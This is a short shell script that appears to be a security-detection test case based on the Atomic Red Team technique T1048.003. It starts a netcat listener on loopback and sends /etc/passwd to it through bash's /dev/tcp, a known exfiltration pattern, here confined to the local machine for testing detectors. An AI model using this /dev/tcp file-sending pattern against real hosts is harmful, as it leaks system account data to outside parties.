#!/bin/sh
# case: T1048.003-devtcp-passwd
# technique: Account file sent through /dev/tcp
# source: redcanaryco/atomic-red-team T1048.003; GTFOBins bash upload
# needs: bash nc
# expect: net file exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need bash nc
P=$((20000 + $$ % 20000)); nc -l 127.0.0.1 "$P" >/dev/null 2>&1 & L=$!; sleep 0.5
timeout 3 bash -c "cat /etc/passwd > /dev/tcp/127.0.0.1/$P"; kill $L 2>/dev/null; wait 2>/dev/null; true
exit 0
